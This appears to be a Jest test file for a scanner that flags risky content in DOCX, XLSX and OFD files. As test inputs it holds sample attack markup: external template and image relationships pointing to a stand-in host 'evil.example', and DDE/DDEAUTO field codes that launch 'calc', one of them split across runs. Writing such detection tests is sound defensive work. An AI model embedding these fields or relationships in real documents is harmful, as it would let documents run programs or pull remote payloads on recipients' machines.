import {
  containerOf,
  fetchesFromElsewhere,
  isHidden,
  problemOfMember,
  startsPrograms,
} from './media-types.rules.js';

test.each([
  [['[Content_Types].xml', 'word/document.xml'], 'DOCX'],
  [['[Content_Types].xml', 'xl/workbook.xml'], 'XLSX'],
  [['OFD.xml', 'Doc_0/Document.xml'], 'OFD'],
  [['a.txt'], undefined],
  [['word/document.xml', 'OFD.xml'], undefined],
])('%j is %s', (names, kind) => expect(containerOf(new Set(names))).toBe(kind));

test.each([
  ['word/vbaProject.bin', 'MACRO'],
  ['xl/activeX/activeX1.xml', 'MACRO'],
  ['word/embeddings/oleObject1.xml', 'MACRO'],
  ['xl/externalLinks/externalLink1.xml', 'MACRO'],
  ['xl/embeddings/unknown', 'MACRO'],
  ['word/afchunk.mht', 'ARCHIVE'],
  ['word/media/more.ZIP', 'ARCHIVE'],
  ['start.exe', 'ARCHIVE'],
  ['word/media/image1.png', undefined],
  ['Doc_0/Signs/Sign_0/SignedValue.dat', undefined],
])('%s within a document: %s', (name, problem) => expect(problemOfMember(name)).toBe(problem));

test.each([
  ['504b030414000600', true],
  ['4d5a900003000000', true],
  ['23212f62696e2f73', true],
  ['3c3f786d6c207665', false],
  ['89504e470d0a1a0a', false],
])('a member that begins with %s: %s', (head, hidden) => expect(isHidden(head)).toBe(hidden));

const relationship = (type: string, mode: string): string =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/a" ${mode}/></Relationships>`;

test.each([
  ['attachedTemplate', 'TargetMode="External"', true],
  ['image', "TargetMode='External'", true],
  ['hyperlink', 'TargetMode="External"', false],
  ['image', '', false],
])('a part %s with %s is fetched from elsewhere: %s', (type, mode, fetched) =>
  expect(fetchesFromElsewhere(relationship(type, mode))).toBe(fetched),
);

test.each([
  ['<w:instrText xml:space="preserve"> DDEAUTO c:\\\\x "/k calc"</w:instrText>', true],
  ['<w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE x</w:instrText>', true],
  ['<w:fldSimple w:instr="DDE Excel x"/>', true],
  ['<w:t>DDE is a protocol</w:t><w:instrText>PAGE</w:instrText>', false],
])('%j starts a program: %s', (text, starts) => expect(startsPrograms(text)).toBe(starts));
